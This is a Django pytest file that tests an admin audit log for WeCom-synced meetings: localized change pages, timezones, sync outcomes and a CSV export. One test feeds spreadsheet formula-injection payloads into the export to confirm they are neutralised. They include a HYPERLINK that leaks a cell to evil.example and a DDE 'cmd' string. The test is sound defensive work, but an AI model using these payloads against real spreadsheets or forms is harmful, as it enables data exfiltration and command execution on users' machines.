"""The record as an auditor reads it: the edit page's words for each value with the stored
value beside it, one clock (the site's, named), the true outcome, and a CSV that a
spreadsheet opens as text."""

import csv
import io
from datetime import UTC, datetime

import pytest
from django.urls import reverse
from django.utils import timezone

from meetings import audit, payloads
from meetings.actions import account as account_actions
from meetings.actions import meeting as meeting_actions
from meetings.models import AuditEvent, Meeting, Person, SyncAttempt
from tests.meetings.factories import make_meeting

pytestmark = pytest.mark.django_db
PENDING, OK, FAILED = (AuditEvent.Outcome.PENDING, AuditEvent.Outcome.OK, AuditEvent.Outcome.FAILED)


def edit(meeting, actor, **changes):
    meeting.refresh_from_db()
    body = payloads.desired_body(meeting)
    for path, value in changes.items():
        group, _dot, name = path.rpartition(".")
        (body[group] if group else body)[name] = value
    return meeting_actions.edit_meeting(meeting, body, actor=actor, loaded_version=meeting.version)


def export(client, **params):
    response = client.get(reverse("admin:meetings_auditevent_export"), params)
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline="")))


def export_dicts(client, **params):
    header, *rows = export(client, **params)
    return [dict(zip(header, row, strict=True)) for row in rows]


@pytest.fixture
def edited(people):
    Person.objects.create(userid="lisi", name="李四", source=Person.Source.CSV)
    meeting = make_meeting(title="周会", meetingid="hyread01")
    start = meeting.start
    edit(
        meeting,
        people["administrator"],
        **{
            "settings.auto_record_type": "cloud",
            "meeting_duration": 5400,
            "settings.remind_scope": 4,
            "settings.ring_users": {"userid": ["lisi"]},
            "settings.enable_waiting_room": True,
        },
    )
    return meeting, start


def test_an_edit_reads_as_the_edit_page_says_it_with_the_stored_value_beside(client_for, edited):
    meeting, _start = edited
    event = AuditEvent.objects.get(action="edit")

    page = (
        client_for("auditor", HTTP_ACCEPT_LANGUAGE="zh-hans")
        .get(reverse("admin:meetings_auditevent_change", args=[event.pk]))
        .content.decode()
    )

    assert "云录制" in page and '<code class="raw">none → cloud</code>' in page
    assert "<td>1小时</td><td>→</td><td>1小时30分钟</td>" in page
    assert "李四 (lisi)" in page
    assert "<td>是</td>" in page
    assert "settings.auto_record_type" not in page.replace('class="raw"', "")


def test_a_conflict_settled_by_keeping_the_value_here_reads_so(client_for, people):
    meeting = make_meeting(title="周会", meetingid="hyread02")
    rows = audit.change_rows([("title", "周会", "周会"), ("settings.password", "1234", "1234")])
    event = audit.record(
        AuditEvent.Action.RESOLVE_CONFLICT,
        actor=people["administrator"],
        meeting=meeting,
        changes=[{**row, "choice": "mine"} for row in rows],
    )

    page = (
        client_for("auditor", HTTP_ACCEPT_LANGUAGE="en")
        .get(reverse("admin:meetings_auditevent_change", args=[event.pk]))
        .content.decode()
    )

    assert "<td>周会</td><td>→</td><td>kept, to be sent to WeCom</td>" in page
    assert "<td>set</td><td>→</td><td>kept, to be sent to WeCom</td>" in page
    assert ">changed<" not in page


def test_times_are_local_with_weekday_and_zone_everywhere(client_for, people):
    event = account_actions.record_login(people["administrator"], source_ip="10.0.0.1")
    local = timezone.localtime(event.at)
    client = client_for("auditor", HTTP_ACCEPT_LANGUAGE="en")
    shown = f"{local:%Y-%m-%d %H:%M:%S} ({local:%A}) Asia/Shanghai"

    listing = client.get(reverse("admin:meetings_auditevent_changelist")).content.decode()
    detail = client.get(reverse("admin:meetings_auditevent_change", args=[event.pk]))
    [row] = [r for r in export_dicts(client) if r["event"] == str(event.pk)]

    assert shown in listing
    assert shown in detail.content.decode()
    assert f"{local:%Y-%m-%d %H:%M:%S} Asia/Shanghai" in detail.content.decode()  # its title
    utc = event.at.astimezone(UTC)
    if utc.hour != local.hour:
        assert f"{utc:%Y-%m-%d %H:%M:%S}" not in detail.content.decode()
    assert row["time"] == shown
    assert datetime.fromisoformat(row["time (UTC)"]) == event.at


def test_a_create_event_leads_to_its_meeting_and_wecom_id_once_known(client_for, people):
    meeting = make_meeting(title="新会", meetingid="placeholder")
    body = payloads.desired_body(meeting)
    created = meeting_actions.create_meeting(
        body, admin_userid="lisi", actor=people["administrator"]
    )
    event = AuditEvent.objects.get(action="create")
    assert event.meetingid == ""
    client = client_for("auditor", HTTP_ACCEPT_LANGUAGE="en")

    before = client.get(reverse("admin:meetings_auditevent_change", args=[event.pk]))
    Meeting.objects.filter(pk=created.pk).update(meetingid="wmcreated77")
    after = client.get(reverse("admin:meetings_auditevent_change", args=[event.pk]))
    [row] = [r for r in export_dicts(client) if r["event"] == str(event.pk)]

    link = reverse("admin:meetings_meeting_change", args=[created.pk])
    assert "not yet created in WeCom" in before.content.decode()
    assert link in after.content.decode() and "wmcreated77" in after.content.decode()
    assert row["meeting ID"] == "wmcreated77"
    assert AuditEvent.objects.get(pk=event.pk).meetingid == ""  # the row itself is untouched


def settled(meeting, actor, outcome, attempts):
    """A pending edit, the attempts it caused, and (unless outcome is None) the worker's
    settlement, written as the shared design says."""
    pending = audit.record(
        AuditEvent.Action.EDIT,
        actor=actor,
        meeting=meeting,
        outcome=PENDING,
        changes=[{"field": "title", "old": "a", "new": "b"}],
    )
    for errcode, errmsg in attempts:
        SyncAttempt.objects.create(
            meeting=meeting,
            meetingid=meeting.meetingid,
            version=meeting.version,
            path="meeting/update",
            started_at=timezone.now(),
            duration_ms=30,
            errcode=errcode,
            errmsg=errmsg,
            outcome=SyncAttempt.Outcome.OK if errcode == 0 else SyncAttempt.Outcome.FAILED,
            request={},
            event=pending,
        )
    if outcome is not None:
        audit.record(
            AuditEvent.Action.SYNC_RESULT,
            meeting=meeting,
            settles=pending,
            outcome=outcome,
            detail="" if outcome == OK else "failed: 会议不存在",
        )
    return pending


def test_the_csv_and_list_show_the_true_outcome_and_wecoms_answer(client_for, people):
    meeting = make_meeting(title="周会", meetingid="hytrue01")
    admin = people["administrator"]
    done = settled(meeting, admin, OK, [(45009, "api freq out of limit"), (0, "ok")])
    failed = settled(meeting, admin, FAILED, [(400031, "meeting not exist")])
    waiting = settled(meeting, admin, None, [(45009, "api freq out of limit")])
    client = client_for("auditor", HTTP_ACCEPT_LANGUAGE="en")

    rows = {int(r["event"]): r for r in export_dicts(client)}
    by_outcome = (
        client.get(reverse("admin:meetings_auditevent_changelist"), {"outcome": "failed"})
        .context["cl"]
        .result_list
    )

    assert (rows[done.pk]["outcome"], rows[done.pk]["WeCom errcode"]) == ("Done", "0")
    assert rows[done.pk]["outcome when written"] == "pending"
    assert rows[failed.pk]["outcome"] == "Failed"
    assert (rows[failed.pk]["WeCom errcode"], rows[failed.pk]["WeCom errmsg"]) == (
        "400031",
        "meeting not exist",
    )
    settlement = AuditEvent.objects.get(settles=failed)
    assert rows[failed.pk]["settled by event"] == str(settlement.pk)
    assert rows[settlement.pk]["settles event"] == str(failed.pk)
    assert rows[waiting.pk]["outcome"] == "Pending"
    assert {e.pk for e in by_outcome} == {failed.pk, settlement.pk}


FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\tstart",
    "\rstart",
]


def test_no_csv_cell_starts_a_formula(client_for, people):
    for title in FORMULAS:
        meeting = make_meeting(title="x", meetingid=None)
        edit(meeting, people["administrator"], title=title)
    account_actions.record_login_failed("=cmd|' /C calc'!A0", source_ip="10.0.0.2")
    client = client_for("auditor", HTTP_ACCEPT_LANGUAGE="en")

    table = export(client)

    # What a spreadsheet does with each cell: a leading = + - @ (or tab, CR before them)
    # makes it a formula. None may start so, and each title is there, as text.
    cells = [value for row in table for value in row]
    assert [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")] == []
    header, *rows = table
    titles = {dict(zip(header, row, strict=True))["meeting"] for row in rows}
    assert {f"'{title}" for title in FORMULAS} <= titles
    assert "'=cmd|' /C calc'!A0" in {dict(zip(header, r, strict=True))["actor"] for r in rows}


def test_a_role_change_reads_in_chinese(client_for, people):
    from django.contrib.auth.models import Group

    people["auditor"].groups.add(Group.objects.get(name="会议管理员"))
    event = AuditEvent.objects.filter(action="role_change").order_by("-pk").first()

    page = (
        client_for("auditor", HTTP_ACCEPT_LANGUAGE="zh-hans")
        .get(reverse("admin:meetings_auditevent_change", args=[event.pk]))
        .content.decode()
    )

    assert "角色变更" in page and "用户 li.audit" in page and "角色组" in page
